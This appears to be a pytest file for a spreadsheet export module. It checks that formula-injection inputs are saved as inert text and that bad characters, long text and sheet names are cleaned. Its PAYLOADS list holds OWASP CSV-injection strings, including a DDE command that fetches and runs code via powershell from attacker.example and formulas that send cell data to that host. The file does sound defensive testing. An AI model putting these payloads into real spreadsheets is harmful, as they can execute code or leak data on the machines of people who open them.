"""The safe cell writer: every payload is saved to a real file and read back, since the danger is in the file."""

from __future__ import annotations

import datetime as dt
import math
import zipfile
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import pytest
from openpyxl import Workbook, load_workbook

from workshop.export.excel.cells import (
    MAX_CELL_TEXT,
    Cleaning,
    header_footer_text,
    sheet_title,
    write_text,
    write_value,
)

#: OWASP CSV injection payloads and their common variants.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "=1+1",
    '=HYPERLINK("http://attacker.example?leak="&A1&A2, "Error: please click")',
    '=HYPERLINK("http://example.com","Click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    'DDE("cmd";"/C calc";"!A0")A0',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-10+20+cmd|' /C calc'!A0",
    "+thespanishinquisition(\u2018cmd\u2019|\u2019/c calc.exe\u2019!A",
    '=IMPORTXML(CONCAT("http://attacker.example?v=", CONCATENATE(A2:E2)), "//a")',
    '=WEBSERVICE("http://attacker.example")',
    "=",
    "-",
    "+",
    "@",
]
ERROR_CODES = ["#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "#NUM!", "#NULL!", "#GETTING_DATA"]


def _round_trip(tmp_path: Path, texts: list[str]) -> tuple[list, Cleaning, Path]:
    """Write each text into column A, save, load back; the loaded cells, the report, the file."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Outcomes"
    cleaning = Cleaning()
    for row, text in enumerate(texts, start=1):
        write_text(sheet.cell(row=row, column=1), text, cleaning)
    path = tmp_path / "out.xlsx"
    workbook.save(path)
    loaded = load_workbook(path)["Outcomes"]
    return [loaded.cell(row=row, column=1) for row in range(1, len(texts) + 1)], cleaning, path


def _expected(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("text", PAYLOADS + ERROR_CODES)
def test_payload_stays_text_after_save_and_load(tmp_path: Path, text: str) -> None:
    [cell], cleaning, _ = _round_trip(tmp_path, [text])
    assert cell.value == _expected(text)
    assert cell.data_type == "s"
    assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert not cleaning


def test_all_payloads_in_one_workbook(tmp_path: Path) -> None:
    texts = PAYLOADS + ERROR_CODES + ["plain", "1+1", "a=b"]
    cells, cleaning, _ = _round_trip(tmp_path, texts)
    assert [cell.value for cell in cells] == [_expected(text) for text in texts]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.quotePrefix for cell in cells[-3:]] == [False, False, False]
    assert not cleaning


def test_formula_never_written_to_the_sheet_xml(tmp_path: Path) -> None:
    _, _, path = _round_trip(tmp_path, PAYLOADS + ERROR_CODES)
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    assert 't="e"' not in sheet_xml


def test_illegal_characters_removed_and_reported(tmp_path: Path) -> None:
    text = "be\x00fore\x07 and\x1f after\x0b"
    [cell], cleaning, _ = _round_trip(tmp_path, [text])
    assert cell.value == "before and after"
    assert cleaning.lines() == ["Outcomes!A1: 4 characters a workbook cannot hold were removed"]


def test_tab_and_line_feed_are_kept(tmp_path: Path) -> None:
    [cell], cleaning, _ = _round_trip(tmp_path, ["one\ttwo\nthree\r\nfour"])
    assert cell.value == "one\ttwo\nthree\nfour"
    assert not cleaning


@pytest.mark.parametrize("bad", ["\ufffe", "\uffff", "\ud800", "\udfff"])
def test_xml_breaking_characters_removed(tmp_path: Path, bad: str) -> None:
    [cell], cleaning, path = _round_trip(tmp_path, [f"a{bad}b"])
    assert cell.value == "ab"
    assert cleaning.lines() == ["Outcomes!A1: 1 character a workbook cannot hold was removed"]
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith(".xml") or name.endswith(".rels"):
                ElementTree.fromstring(archive.read(name))


def test_astral_characters_are_kept(tmp_path: Path) -> None:
    [cell], cleaning, _ = _round_trip(tmp_path, ["team \U0001f91d room"])
    assert cell.value == "team \U0001f91d room"
    assert not cleaning


def test_long_text_cut_and_reported(tmp_path: Path) -> None:
    [cell], cleaning, _ = _round_trip(tmp_path, ["x" * 40_000])
    assert cell.value == "x" * MAX_CELL_TEXT
    [line] = cleaning.lines()
    assert line.startswith("Outcomes!A1: cut to 32,767 characters")
    assert "7,233" in line


def test_long_text_cut_in_utf16_units_without_splitting_a_pair() -> None:
    cell = Workbook().active["A1"]
    cleaning = Cleaning()
    write_text(cell, "\U0001f91d" * 20_000, cleaning)
    assert len(cell.value.encode("utf-16-le")) // 2 <= MAX_CELL_TEXT
    assert cell.value == "\U0001f91d" * (MAX_CELL_TEXT // 2)
    assert len(cleaning) == 1


def test_where_is_added_to_the_place() -> None:
    sheet = Workbook().active
    sheet.title = "Outcomes"
    cleaning = Cleaning()
    write_text(sheet["B4"], "a\x00\x01b", cleaning, where="outcome 'Reach'")
    assert cleaning.lines() == ["Outcomes!B4 (outcome 'Reach'): 2 characters a workbook cannot hold were removed"]


def test_rewriting_plain_text_clears_quote_prefix() -> None:
    cell = Workbook().active["A1"]
    cleaning = Cleaning()
    write_text(cell, "=1", cleaning)
    assert cell.quotePrefix
    write_text(cell, "1", cleaning)
    assert not cell.quotePrefix


def test_write_value_keeps_types(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    cleaning = Cleaning()
    values = [3, 2.5, True, None, dt.date(2026, 12, 2), dt.datetime(2026, 12, 2, 9, 30), "=1+1", "#N/A"]
    for row, value in enumerate(values, start=1):
        write_value(sheet.cell(row=row, column=1), value, cleaning)
    write_value(sheet.cell(row=9, column=1), 0.25, cleaning, number_format="0%")
    path = tmp_path / "values.xlsx"
    workbook.save(path)
    loaded = load_workbook(path).active
    got = [loaded.cell(row=row, column=1).value for row in range(1, 10)]
    assert got[:4] == [3, 2.5, True, None]
    assert got[4].date() == dt.date(2026, 12, 2)
    assert got[5] == dt.datetime(2026, 12, 2, 9, 30)
    assert got[6:8] == ["=1+1", "#N/A"]
    assert loaded["A7"].data_type == loaded["A8"].data_type == "s"
    assert loaded["A9"].number_format == "0%" and got[8] == 0.25
    assert not cleaning


def test_write_value_makes_unholdable_values_holdable(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    cleaning = Cleaning()
    write_value(sheet["A1"], math.nan, cleaning)
    write_value(sheet["A2"], math.inf, cleaning)
    write_value(sheet["A3"], dt.datetime(2026, 12, 2, 9, 30, tzinfo=dt.UTC), cleaning)
    write_value(sheet["A4"], Path("x"), cleaning)
    path = tmp_path / "odd.xlsx"
    workbook.save(path)
    loaded = load_workbook(path).active
    assert loaded["A1"].value is None and loaded["A2"].value is None
    assert loaded["A3"].value == dt.datetime(2026, 12, 2, 9, 30)
    assert loaded["A4"].value == "x"
    assert len(cleaning) == 3


def test_header_footer_escaping(tmp_path: Path) -> None:
    assert header_footer_text("R&D & Ops") == "R&&D && Ops"
    assert header_footer_text("a\x00b\ufffe") == "ab"
    workbook = Workbook()
    sheet = workbook.active
    sheet.oddHeader.center.text = header_footer_text("Q&A &P")
    path = tmp_path / "header.xlsx"
    workbook.save(path)
    assert load_workbook(path).active.oddHeader.center.text == "Q&&A &&P"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Outcomes", "Outcomes"),
        ("a\\b*c?d:e/f[g]h", "abcdefgh"),
        ("'quoted'", "quoted"),
        ("", "Sheet"),
        ("[]:*", "Sheet"),
        ("x" * 40, "x" * 31),
        ("History", "History (2)"),
        ("line\nbreak\x00", "line break"),
    ],
)
def test_sheet_title_valid(name: str, expected: str) -> None:
    assert sheet_title(name, set()) == expected


def test_sheet_title_unique_case_insensitively() -> None:
    taken = {"Outcomes"}
    assert sheet_title("outcomes", taken) == "outcomes (2)"
    assert sheet_title("OUTCOMES", taken) == "OUTCOMES (3)"
    assert {"Outcomes", "outcomes (2)", "OUTCOMES (3)"} == taken


def test_sheet_title_suffix_stays_within_31() -> None:
    taken: set[str] = set()
    first = sheet_title("y" * 40, taken)
    second = sheet_title("y" * 40, taken)
    assert first == "y" * 31
    assert second == "y" * 27 + " (2)"
    assert len(second) == 31


def test_sheet_title_no_apostrophe_left_at_cut() -> None:
    title = sheet_title("a" * 30 + "'b", set())
    assert not title.endswith("'") and len(title) <= 31


def test_sheet_titles_accepted_by_openpyxl_and_saved(tmp_path: Path) -> None:
    workbook = Workbook()
    taken = {workbook.active.title}
    names = ["Sheet", "sheet", "Who?", "a/b", "'x'", "z" * 50, "z" * 50]
    titles = [sheet_title(name, taken) for name in names]
    for title in titles:
        workbook.create_sheet(title)
    path = tmp_path / "titles.xlsx"
    workbook.save(path)
    assert load_workbook(path).sheetnames == ["Sheet", *titles]
    assert len({title.casefold() for title in titles}) == len(titles)


def test_write_value_decimal_nan_left_empty() -> None:
    cell = Workbook().active["A1"]
    cleaning = Cleaning()
    write_value(cell, Decimal("sNaN"), cleaning)
    assert cell.value is None and len(cleaning) == 1
